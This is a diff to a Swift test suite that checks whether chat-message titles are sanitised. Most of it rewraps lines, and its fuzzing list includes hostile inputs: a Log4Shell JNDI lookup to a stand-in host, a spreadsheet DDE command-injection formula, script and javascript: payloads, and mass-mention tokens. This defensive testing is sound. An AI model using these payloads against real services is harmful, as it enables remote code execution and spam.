@@ -14,7 +14,8 @@ struct HostileTitleTests {
     }()
 
     private static func folder(_ name: String) -> URL {
-        Bundle.module.resourceURL?.appendingPathComponent("Fixtures").appendingPathComponent(name) ?? URL(fileURLWithPath: name)
+        Bundle.module.resourceURL?.appendingPathComponent("Fixtures").appendingPathComponent(name)
+            ?? URL(fileURLWithPath: name)
     }
 
     /// `\u{…}` in a title's file stands for that scalar.
@@ -38,7 +39,9 @@ struct HostileTitleTests {
     @Test("there are titles to test with")
     func fixtures() { #expect(HostileTitleTests.titles.count >= 14) }
 
-    @Test("no mention, link or markup of a title survives, byte for byte as expected", arguments: SinkDefinition.Kind.allCases)
+    @Test(
+        "no mention, link or markup of a title survives, byte for byte as expected",
+        arguments: SinkDefinition.Kind.allCases)
     func golden(_ kind: SinkDefinition.Kind) throws {
         for name in HostileTitleTests.titles {
             let body = try HostileTitleTests.body(kind, title: try HostileTitleTests.title(name))
@@ -46,11 +49,13 @@ struct HostileTitleTests {
             if let record = ProcessInfo.processInfo.environment["VIGIE_RECORD_FIXTURES"] {
                 let folder = URL(fileURLWithPath: record).appendingPathComponent(kind.rawValue)
                 try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
-                try (body + "\n").write(to: folder.appendingPathComponent(name + ".json"), atomically: true, encoding: .utf8)
+                try (body + "\n").write(
+                    to: folder.appendingPathComponent(name + ".json"), atomically: true, encoding: .utf8)
                 continue
             }
             let expected = try String(
-                contentsOf: HostileTitleTests.folder(kind.rawValue).appendingPathComponent(name + ".json"), encoding: .utf8)
+                contentsOf: HostileTitleTests.folder(kind.rawValue).appendingPathComponent(name + ".json"),
+                encoding: .utf8)
             #expect(body + "\n" == expected, "\(name)")
         }
     }
@@ -69,7 +74,7 @@ struct HostileTitleTests {
         let sinks = try SinkBench.kinds.map { ($0, try SinkBench.sink($0)) }
         let family = EntryFamily(watchlist: Samples.watchlist)
         // 50 strings stand in one message: 10 chunks of 200 messages are 100,000 strings for each sink.
-        for _ in 0..<HostileTitleTests.messagesOfChunk {
+        for _ in 0..<200 {
             var strings = (0..<50).map { _ in HostileStrings.random(using: &random) }
             func next() -> String { strings.removeLast() }
             let findings = (0..<4).map { number in
@@ -90,21 +95,24 @@ struct HostileTitleTests {
             }
         }
     }
-
-    /// All of them with `VIGIE_LONG_TESTS=1`, a tenth otherwise.
-    private static let messagesOfChunk = ProcessInfo.processInfo.environment["VIGIE_LONG_TESTS"] == nil ? 20 : 200
 }
 
 /// Strings made of what services and parsers stumble over.
 enum HostileStrings {
     private static let pieces = [
-        "@channel", "@here", "@all", "@everyone", "@user.name", "<!channel>", "<!here|here>", "<@U012AB3CD>", "<#C024BE7LR>",
-        "<https://evil.example|click>", "https://evil.example/a?b=c", "HTTP://EVIL.EXAMPLE", "www.evil.example", "evil.example",
+        "@channel", "@here", "@all", "@everyone", "@user.name", "<!channel>", "<!here|here>", "<@U012AB3CD>",
+        "<#C024BE7LR>",
+        "<https://evil.example|click>", "https://evil.example/a?b=c", "HTTP://EVIL.EXAMPLE", "www.evil.example",
+        "evil.example",
         "mailto:a@b.example", "j.dupont@mail.example", "[link](https://evil.example)", "![i](http://e.example/x.png)",
-        "**bold**", "_it_", "~~no~~", "`code`", "```", "| a | b |", "# head", "> quote", "\n", "\r\n", "\t", "\u{0}", "\u{1B}[31m",
-        "\u{1B}]8;;http://evil.example\u{7}", "\u{202E}", "\u{2066}", "\u{200B}", "\u{FEFF}", "\u{2028}", "\u{85}", "\\", "\"", "'",
-        "{{ .Title }}", "${jndi:ldap://evil.example}", "=cmd|' /C calc'!A0", "&amp;", "&", "<", ">", "<script>", ":tada:",
-        "é", "e\u{301}", "👩‍👩‍👧‍👦", "🇫🇷", "\u{E0041}", "ﷺ", "javascript:alert(1)", "ht\u{200B}tps://evil.example", "@\u{200B}all",
+        "**bold**", "_it_", "~~no~~", "`code`", "```", "| a | b |", "# head", "> quote", "\n", "\r\n", "\t", "\u{0}",
+        "\u{1B}[31m",
+        "\u{1B}]8;;http://evil.example\u{7}", "\u{202E}", "\u{2066}", "\u{200B}", "\u{FEFF}", "\u{2028}", "\u{85}",
+        "\\", "\"", "'",
+        "{{ .Title }}", "${jndi:ldap://evil.example}", "=cmd|' /C calc'!A0", "&amp;", "&", "<", ">", "<script>",
+        ":tada:",
+        "é", "e\u{301}", "👩‍👩‍👧‍👦", "🇫🇷", "\u{E0041}", "ﷺ", "javascript:alert(1)", "ht\u{200B}tps://evil.example",
+        "@\u{200B}all",
         "@\u{301}all", "`\u{301}", "<\u{338}!channel>", "$a$", "^", "~", "://", ".", "@", " ", "a", "Z", "0",
     ]
 
